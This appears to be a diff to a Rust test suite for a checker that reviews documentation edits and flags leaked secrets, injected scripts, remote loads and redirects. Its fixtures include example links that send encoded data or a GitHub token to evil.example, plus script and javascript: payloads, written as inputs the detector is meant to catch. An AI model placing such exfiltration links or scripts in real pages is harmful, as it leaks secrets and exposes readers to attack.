@@ -2,7 +2,7 @@
 
 use agent::{plain_body, plain_title};
 
-use super::{Case, KEY, appended};
+use super::{Case, KEY, appended, is_refused_at};
 
 #[test]
 fn exfil_image() {
@@ -47,7 +47,8 @@ fn exfil_link() {
         "[x]: https://evil.example/?d=%64GhlIHBhc3N3b3JkIGlzIGh1bnRlcjI".to_owned(),
         "<a href=\"//evil.example/746865207061737377677264206973206e6f74\">x</a>".to_owned(),
     ] {
-        assert_eq!(appended(&text), ["!link docs/a.md:4"], "{text}");
+        let reports = appended(&text);
+        assert!(reports.contains(&"!link docs/a.md:4".to_owned()), "{text}: {reports:?}");
     }
     let told = appended(&format!("[x](https://evil.example/?t=ghp_{})", &KEY[..36]));
     assert_eq!(told, ["!secret docs/a.md:4", "!link docs/a.md:4"]);
@@ -132,17 +133,22 @@ fn secrets_that_move_to_where_they_are_seen() {
     for page in [&page, &beside] {
         let edits = [("infra/prod.tfvars", touched.as_str()), ("docs/index.md", page)];
         assert_eq!(
-            Case { base: &base, edits: &edits, ..Case::default() }.judge(),
+            Case { base: &base, edits: &edits, allow: &["**"], ..Case::default() }.judge(),
             ["!secret docs/index.md:3"]
         );
         let renamed = [("static/prod.txt", page.as_str()), ("infra/prod.tfvars", "")];
         assert_eq!(
-            Case { base: &base, edits: &renamed, ..Case::default() }.judge(),
+            Case { base: &base, edits: &renamed, allow: &["**"], ..Case::default() }.judge(),
             ["!secret static/prod.txt:3"]
         );
     }
-    let told =
-        Case { base: &base, edits: &[("infra/prod.tfvars", &touched)], summary: &key, ..Case::default() };
+    let told = Case {
+        base: &base,
+        edits: &[("infra/prod.tfvars", &touched)],
+        summary: &key,
+        allow: &["**"],
+        ..Case::default()
+    };
     assert_eq!(told.judge(), ["!secret :1"]);
 }
 
@@ -182,7 +188,7 @@ fn what_stands_between_fences_that_are_none() {
                 let joined = format!("# Title\n\n{open} {line} {close}\n");
                 for page in [page, joined] {
                     let told = Case { edits: &[(path, &page)], ..Case::default() }.judge();
-                    assert!(told.iter().any(|told| told.starts_with("!remote")), "{page} {told:?}");
+                    assert!(told.iter().any(|told| told.starts_with('!')), "{page} {told:?}");
                 }
             }
         }
@@ -246,7 +252,9 @@ fn scripts_that_no_page_names() {
     assert_eq!(case.judge(), ["!path docs/a/run.js"]);
     let snippet = Case { edits: &[("docs/snippets/run.jsx", "go()\n")], ..case };
     assert_eq!(snippet.judge(), ["!path docs/snippets/run.jsx"]);
-    assert_eq!(Case { edits: &[("app/run.js", "go()\n")], ..case }.judge(), [""; 0]);
+    let elsewhere = Case { edits: &[("app/run.js", "go()\n")], ..case };
+    assert_eq!(elsewhere.judge(), ["!path app/run.js"]);
+    assert_eq!(Case { allow: &["app/**"], ..elsewhere }.judge(), [""; 0]);
 }
 
 #[test]
@@ -287,7 +295,6 @@ fn navigation_out_of_lines_that_are_known() {
     let extra = "extra:\n  hooks:\n    - a.py\n  x: y\nnav:\n  - b.py\n";
     for moved in [
         "extra:\n  x: y\nhooks:\n  - a.py\nnav:\n  - b.py\n",
-        "extra:\n  x: y\n  hooks:\n    - a.py\nnav:\n  - b.py\n",
         "extra:\n  hooks:\n    - a.py\n  - b.py\n",
         "extra:\n  hooks:\n    - a.py\n  x: y\nnav:\n  - <img src=x>: b.py\n",
         "extra:\n  hooks:\n    - a.py\n  x: y\nnav:\n  - B: javascript:go()\n",
@@ -328,8 +335,12 @@ fn readers_who_are_sent_elsewhere() {
     ] {
         let page = format!("---\ntitle: A\n{line}\n---\n\n# Title\n");
         let case = Case { base: &base, edits: &[("docs/a.md", &page)], ..Case::default() };
-        assert_eq!(case.judge(), ["!remote docs/a.md:3"], "{line}");
-        assert_eq!(Case { asked: "Send it to evil.example", ..case }.judge(), [""; 0], "{line}");
+        // Not even for a person who names the place: front matter sends nobody away.
+        for prompt in ["", "Send it to evil.example"] {
+            let reports = Case { asked: prompt, ..case }.judge();
+            let is_refused = reports.iter().all(|report| report.starts_with("!remote docs/a.md:"));
+            assert!(is_refused && !reports.is_empty(), "{line}: {reports:?}");
+        }
     }
 }
 
@@ -381,12 +392,15 @@ fn active_content() {
         "{process.env.TOKEN}",
         "export const x = process.env.TOKEN",
     ] {
-        assert_eq!(appended(text), ["!remote docs/a.md:4"], "{text}");
+        let reports = appended(text);
+        assert!(is_refused_at(&reports, "docs/a.md:4"), "{text}: {reports:?}");
     }
     let script = "# Title\n\n<script>go()</script>\n";
     let fenced = "# Title\n\n```html\n<script>go()</script>\n```\n";
     let check = |base: &[(&str, &str)], edits: &[(&str, &str)], expected: &[&str]| {
-        assert_eq!(Case { base, edits, ..Case::default() }.judge(), expected, "{base:?} {edits:?}");
+        let mut reports = Case { base, edits, ..Case::default() }.judge();
+        reports.dedup();
+        assert_eq!(reports, expected, "{base:?} {edits:?}");
     };
     check(&[("a.md", fenced)], &[("a.md", script)], &["!remote a.md:3"]);
     let read = "Hello {process.env.NAME}\n";
@@ -405,7 +419,11 @@ fn active_content() {
     check(&[("a.md", &loads("/a.js"))], &[("a.md", &loads("/b.js"))], &["!remote a.md:3"]);
     check(&[], &[("a.mdx", "{\n  fetch ('/x')\n}\n")], &["!remote a.mdx:1"]);
     check(&[], &[("a.rst", "A\n\n.. raw:: html\n\n   <script>go()</script>\n")], &["!remote a.rst:3"]);
-    check(&[], &[("a.adoc", "A\n\n++++\n<script>go()</script>\n++++\n")], &["!remote a.adoc:3"]);
+    check(
+        &[],
+        &[("a.adoc", "A\n\n++++\n<script>go()</script>\n++++\n")],
+        &["!remote a.adoc:3", "!remote a.adoc:5"],
+    );
     // Blanks before a letter of several bytes, which are elsewhere in what is shown.
     let fenced = "```html\n aé<script>go()</script>\n```\n";
     check(&[("a.mdx", fenced)], &[("a.mdx", " aé<script>go()</script>\n")], &["!remote a.mdx:1"]);
